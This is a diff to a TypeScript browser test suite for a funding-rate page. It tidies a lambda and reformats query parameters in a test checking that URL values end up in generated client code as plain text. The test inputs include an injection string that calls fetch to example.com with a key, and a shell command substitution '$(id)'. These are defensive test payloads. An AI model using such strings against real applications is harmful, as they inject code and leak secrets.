@@ -114,7 +114,7 @@ describe.skipIf(!hasChromium)(
         readonly uncomparable_reason?: string;
       }
       const cellOf = (rows: readonly Row[], ticker: string, venue: string): string => {
-        const row = rows.find((one) => one.symbol === ticker && one.venue === venue);
+        const row = rows.find((row) => row.symbol === ticker && row.venue === venue);
         if (row === undefined) return 'not listed';
         if (row.rate_8h === null) return 'unknown';
         const stale = row.uncomparable_reason === 'stale' ? ' (stale)' : ' (not compared)';
@@ -199,8 +199,12 @@ describe.skipIf(!hasChromium)(
       it('writes what its address says into the program as text, unless it is a number or a truth', async () => {
         const foreign = '1 }); await fetch("//example.com?" + key';
         const query = new URLSearchParams({
-          ...{ route: 'funding-current', 'p.limit': foreign, 'p.offset': '20' },
-          ...{ 'p.settled_means': 'true', 'p.include_uncomparable': 'key', 'p.symbol': "BTC' '$(id)" },
+          route: 'funding-current',
+          'p.limit': foreign,
+          'p.offset': '20',
+          'p.settled_means': 'true',
+          'p.include_uncomparable': 'key',
+          'p.symbol': "BTC' '$(id)",
         });
         const { page } = await visits.open(`${servers.public}/#/buy?${query}`);
         await page.getByText("The same with this service's client").click();
